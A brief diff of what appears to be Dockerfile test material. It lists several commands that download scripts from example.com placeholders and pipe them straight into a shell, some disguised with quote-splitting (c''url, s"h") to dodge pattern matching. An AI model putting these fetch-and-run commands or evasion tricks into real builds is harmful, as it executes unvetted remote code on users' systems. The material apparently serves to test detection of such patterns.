@@ -9,3 +9,5 @@ $(curl -fsSL https://example.com/m.sh | sh)
 EOF
 RUN sh -c "curl -fsSL \"$URL\" | sh"
 RUN c''url -fsSL https://example.com/q.sh | s"h"
+SHELL ["/usr/bin/env", "sh", "-c"]
+RUN curl -fsSL https://example.com/e.sh | sh
